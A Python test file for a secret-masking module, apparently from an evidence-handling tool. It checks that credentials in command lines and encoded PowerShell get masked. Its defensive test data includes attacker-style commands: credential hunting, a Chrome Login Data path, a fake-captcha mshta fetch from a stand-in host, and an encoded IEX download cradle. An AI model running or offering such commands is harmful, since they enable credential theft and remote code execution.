"""Secrets in evidence: what is masked, what stays readable, and that masking is stable and total."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from douse.masking import MASK, mask, mask_named

CANARY = "Zx9-Canary_77Q"

WITH_SECRET = (
    r"net use \\srv\c$ /user:anna {}",
    r"net use x: \\srv\c$ {} /user:anna",
    "net user bob {} /add",
    "schtasks /create /ru corp\\x /rp {} /tn y",
    r"psexec \\host -u admin -p {} cmd.exe",
    "plink.exe -ssh a@b -pw {}",
    "sqlcmd -S db -U sa -P {} -Q x",
    "mysql -uroot -p{} db",
    "7z a -p{} out.7z in",
    "rar.exe a -hp{} out.rar in",
    "curl -u anna:{} https://x.example/",
    "cmdkey /add:srv /user:a /pass:{}",
    "wmic /node:x /user:y /password:{} process list",
    "tool --password {} run",
    "tool --api-key={} run",
    "tool -Token '{}'",
    'Data Source=db;User=sa;Password={};',
    '{{"user": "anna", "password": "{}"}}',
    '{{\\"client_secret\\":\\"{}\\"}}',
    "$env:AWS_SECRET_ACCESS_KEY = '{}'",
    "$Password = '{}'",
    "https://anna:{}@host.example/path",
    "https://x.example/cb?access_token={}&state=1",
    "Authorization: Bearer {}",
    "Cookie: session={}; other=1",
    'ConvertTo-SecureString "{}" -AsPlainText -Force',
    "New-Object System.Net.NetworkCredential('anna', '{}')",
    "passwort={}",
    "$pw = '{}'",
    "$password = ConvertTo-SecureString '{}' -AsPlainText -Force",
    "tool --password '{}",
    'tool --password "{}' + "z" * 600 + '" run',
    r'net use Z: \\srv\s /user:anna ^"{}^"',
    "rclone --s3-secret-access-key {} copy a b",
    "rclone --mega-pass {} copy a mega:",
    "certutil -f -p {} -importpfx a.pfx",
    "xfreerdp /v:srv /u:anna /p:{}",
    'reg add "HKLM\\SOFTWARE\\Winlogon" /v DefaultPassword /t REG_SZ /d {} /f',
)

KEPT = (
    "powershell.exe -ExecutionPolicy Bypass -File C:\\x.ps1",
    "System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a",
    "Token Elevation Type: %%1936",
    "findstr /si password *.txt",
    "notepad C:\\Users\\anna\\passwords.txt",
    "tool --password $pw --token %TOKEN%",
    r"C:\Users\anna\AppData\Local\Google\Chrome\User Data\Default\Login Data",
    r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\Key",
    "mshta https://verify.example/x.mp3 # I am not a robot",
    "net user anna",
    "reg add HKCU\\Software\\X /v Start /d calc.exe /f",
    "msbuild a.proj /p:Configuration=Release",
    "$password = Read-Host -AsSecureString",
    r"net use \\srv\share",
    "ssh -p 22 host",
    "QueryName=keys.example",
    "powershell -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAA==",
)


@pytest.mark.parametrize("line", WITH_SECRET)
def test_a_marked_secret_is_masked(line: str) -> None:
    masked = mask(line.format(CANARY))
    assert CANARY not in masked
    assert MASK in masked


@pytest.mark.parametrize("line", KEPT)
def test_what_is_no_secret_stays(line: str) -> None:
    assert mask(line) == line


@pytest.mark.parametrize("secret", [
    "AKIAIOSFODNN7EXAMPLE", "ghp_" + "a1B2" * 9, "xoxb-123456789012-abcdefghij", "glpat-abcdefghij0123456789",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl", "1234567890:AA" + "b" * 33,
    "https://api.telegram.org/bot1234567890:AA" + "b" * 33, "sk-" + "a1" * 20,
    "https://hooks.slack.com/services/T000/B000/XXXXXXXX", "-----BEGIN RSA PRIVATE KEY-----\nMIIEabc=\n-----END"])
def test_a_secret_is_known_by_its_form(secret: str) -> None:
    masked = mask(f"set X {secret} and on")
    assert MASK in masked
    assert secret not in masked


@pytest.mark.parametrize(("name", "text", "shown"), [
    ("Password", "Hunter2", MASK), ("cs(Cookie)", "SID=1", MASK), ("access_token", "abc", MASK), ("Password", "-", "-"),
    ("KeyName", "Google Chrome", "Google Chrome"), ("TokenElevationType", "%%1936", "%%1936"),
    ("CommandLine", "x --password y", f"x --password {MASK}")])
def test_a_field_whose_name_marks_a_secret_is_masked_as_a_whole(name: str, text: str, shown: str) -> None:
    assert mask_named(name, text) == shown


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-8"])
def test_a_secret_inside_encoded_code_takes_the_code_with_it(encoding: str) -> None:
    inner = base64.b64encode(f"net use x: /user:a; $Password = '{CANARY}'; Get-Process".encode(encoding)).decode()
    assert mask(f"powershell -enc {inner}") == f"powershell -enc {MASK}"


@pytest.mark.parametrize("cut", range(1, 9))
def test_code_that_was_cut_is_looked_into_as_far_as_it_goes(cut: int) -> None:
    inner = base64.b64encode(f"$Password = '{CANARY}'; Get-Process; Get-Date".encode("utf-16-le")).decode()
    assert mask(f"powershell -enc {inner[:-cut]}…") in {f"powershell -enc {MASK}…", f"powershell -enc {MASK}=…"}


def test_a_secret_encoded_twice_is_found() -> None:
    once = base64.b64encode(f"$Password = '{CANARY}'; Get-Process; Get-Date".encode()).decode()
    twice = base64.b64encode(f"IEX(decode('{once}'))".encode("utf-16-le")).decode()
    assert twice not in mask(f"powershell -enc {twice}")


@given(st.lists(st.sampled_from([*(line.format(CANARY) for line in WITH_SECRET), *KEPT, "=", "'", '"', " ", "\n", "-p",
                                 "password", "token:", "://", "@", "curl -u"]), max_size=6).map(" ".join))
@settings(max_examples=300)
def test_masking_twice_changes_nothing_more(text: str) -> None:
    assert mask(mask(text)) == mask(text)


@pytest.mark.parametrize("text", ["net use " * 4000, "password=" * 4000, "curl -u " * 4000, "a://" * 8000,
                                  "psexec -p" * 4000, "A" * 60_000, "cookie:" * 5000, "?sig=" * 6000])
def test_hostile_repetition_is_read_to_its_end(text: str) -> None:
    assert isinstance(mask(text), str)
